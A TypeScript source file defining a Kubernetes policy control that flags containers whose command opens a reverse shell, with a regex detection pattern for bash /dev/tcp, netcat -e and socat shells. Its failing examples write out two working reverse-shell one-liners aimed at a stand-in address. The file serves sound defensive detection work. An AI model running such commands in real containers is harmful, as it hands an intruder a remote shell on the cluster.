import { defineControl } from "@plimsoll/core";

export const reverseShell = defineControl({
  id: "reverse-shell",
  title: "No container starts a shell for someone elsewhere",
  severity: "high",
  why: "The command connects a shell to a remote address. That is how an intruder keeps a foothold in a pod made for the purpose; ordinary software does not start so.",
  remediation:
    "Delete the workload, once the audit log and its last field manager have told who created it and from which manifest. Treat the node it ran on and the service account it held as known to the intruder. If it is a test, it should not outlive the test.",
  equivalents: [],
  grants: "lateral-movement",
  target: "container",
  validate:
    "!(container.?command.orValue([]) + container.?args.orValue([]) + container.?lifecycle.?postStart.?exec.?command.orValue([])).join(' ').matches('(sh|bash) +-i *([0-9]?>&?|&>|<) */dev/(tcp|udp)/|exec +[0-9]*<> */dev/(tcp|udp)/|(^|[ /;&|])(nc|ncat|netcat)( .*)? (-[a-z]*[ec]|--exec|--sh-exec) *[a-z/]*sh( |$)|socat .*(exec|system):.*sh')",
  path: "command",
  message: "The container's command connects a shell to a remote address",
  noFix: "Somebody put it there; who and why comes first.",
  examples: {
    pass: [
      {
        container: {
          command: ["bash", "-c", "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; exec shop"],
        },
      },
    ],
    fail: [
      { container: { command: ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"] } },
      { container: { command: ["nc", "203.0.113.7", "4444", "-e", "/bin/sh"] } },
    ],
  },
});
